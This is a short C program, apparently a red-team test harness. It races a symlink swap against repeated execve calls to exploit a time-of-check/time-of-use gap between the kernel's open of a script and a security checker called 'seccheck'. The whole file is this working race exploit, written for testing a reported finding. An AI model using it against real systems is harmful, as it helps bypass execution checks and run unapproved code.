// usage: flip_exec DIR N TARGET_A TARGET_B
// A flipper process keeps replacing the symlink DIR/x (atomically, by rename) so that it points at
// TARGET_A, then TARGET_B, ...; meanwhile N children each execve("DIR/x") one after the other. The
// programs run print what they print; counting is left to the caller. (Red team rt8, finding 1:
// the name is swapped between the kernel's open of the script and seccheck's look at it.)
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>
extern char **environ;
int main(int argc, char **argv) {
    if (argc < 5) {
        fprintf(stderr, "usage: flip_exec DIR N TARGET_A TARGET_B\n");
        return 2;
    }
    char x[4096], tmp[4096];
    snprintf(x, sizeof x, "%s/x", argv[1]);
    snprintf(tmp, sizeof tmp, "%s/x.tmp", argv[1]);
    int n = atoi(argv[2]);
    unlink(x);
    if (symlink(argv[3], x) != 0) {
        perror("symlink");
        return 1;
    }
    pid_t flipper = fork();
    if (flipper == 0) {
        for (unsigned long i = 0;; i++) {
            unlink(tmp);
            if (symlink(argv[3 + (i & 1)], tmp) == 0) {
                rename(tmp, x);
            }
        }
    }
    for (int i = 0; i < n; i++) {
        pid_t p = fork();
        if (p == 0) {
            char *av[] = {"x", NULL};
            execve(x, av, environ);
            _exit(127);
        }
        int st;
        waitpid(p, &st, 0);
    }
    kill(flipper, SIGKILL);
    waitpid(flipper, NULL, 0);
    return 0;
}
